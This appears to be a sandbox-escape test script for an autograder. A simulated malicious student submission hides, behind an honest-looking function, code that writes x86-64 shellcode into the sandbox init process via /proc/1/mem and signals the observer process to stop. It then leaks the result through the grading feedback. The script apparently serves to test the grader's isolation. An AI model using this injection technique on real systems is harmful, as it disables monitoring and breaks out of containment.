"""a10c: as a10, but init is woken by SIGKILL to the placeholder (pid 2, its child), since orphans go to the observer.\n from a check's child (observer's sandbox), write into that sandbox's bwrap init (pid 1) code that sends
SIGSTOP to the observer (pid 3) with kill(2), then spins: is init's filter the one that refuses stop signals, or
does a process outside the filter's reach stop the observer? x86-64 shellcode: mov edi,3; mov esi,19; mov eax,62;
syscall; jmp $. Afterwards the child reads the observer's state and init's rax (the kill result, via /proc/1/syscall
is not available while running, so init stores nothing: we read the observer's state instead)."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
A = "ps1_memory"
code = sol(A, "training_memory").replace("def training_memory(model, optimizer):", "def _honest_tm(model, optimizer):") + r'''
import os, time
SHELL = bytes.fromhex("bf03000000" "be13000000" "b83e000000" "0f05" "ebfe")
def _inject_stop():
    st1 = {l.split(":")[0]: l.split(":", 1)[1].strip() for l in open("/proc/1/status")}
    fields = open("/proc/1/syscall").read().split()
    pc = int(fields[-1], 16)
    fd = os.open("/proc/1/mem", os.O_RDWR)
    try:
        os.pwrite(fd, SHELL, pc)
    finally:
        os.close(fd)
    import signal
    os.kill(2, signal.SIGKILL)   # the placeholder is init's child: its death wakes init's wait4 (orphans go to the observer, a subreaper)
    time.sleep(1.0)
    obs = open("/proc/3/stat").read().split()
    return f"init Seccomp={st1.get('Seccomp')}/{st1.get('Seccomp_filters')} syscall={fields[0]} observer(3) state={obs[2]} init state={open('/proc/1/stat').read().split()[2]}"

def training_memory(model, optimizer):
    import sys
    o = sys.modules.get("probes.observer")
    if o is not None and getattr(o, "ACTIVE", False) and not os.path.exists("/tmp/.a10cdone"):
        open("/tmp/.a10cdone", "w").close()
        try:
            msg = _inject_stop()
        except Exception as e:
            msg = repr(e)
        raise ValueError("A10C " + msg)
    return _honest_tm(model, optimizer)
'''
d = make_course("a10c", A, {"mallory": {"training_memory": code}})
grade(d, A)
scores(d, A)
import html, re
fb = open(f"{d}/feedback/mallory/{A}/{A}.html").read()
for m in list(re.finditer("A10C ", fb))[-1:]:
    print(html.unescape(re.sub("<[^>]+>", "", fb[m.start():m.start()+600])))
